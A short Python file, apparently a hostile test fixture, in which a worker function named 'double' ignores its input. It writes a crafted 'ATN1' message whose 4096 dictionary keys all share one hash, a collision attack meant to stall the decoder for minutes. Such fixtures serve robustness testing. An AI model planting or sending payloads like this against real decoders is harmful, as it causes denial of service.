# A dictionary whose keys all have the same hash, long ones: minutes of work for whoever decodes it.
import os
import struct
import time

PRIME = 2**61 - 1


def big(value):
    raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"I" + struct.pack("<I", len(raw)) + raw


def double(values):
    keys = [b"t" + struct.pack("<I", 191) + (b"i" + bytes(8)) * 190 + big((k + 1) * PRIME) + b"N" for k in range(4096)]
    answer = b"d" + struct.pack("<I", len(keys)) + b"".join(keys)
    header = b"t" + struct.pack("<I", 3) + b"s" + struct.pack("<I", 5) + b"value" + answer + b"l" + bytes(4)
    data = struct.pack("<4sIQ", b"ATN1", len(header), 0) + header
    while data:
        data = data[os.write(3, data):]
    time.sleep(60)
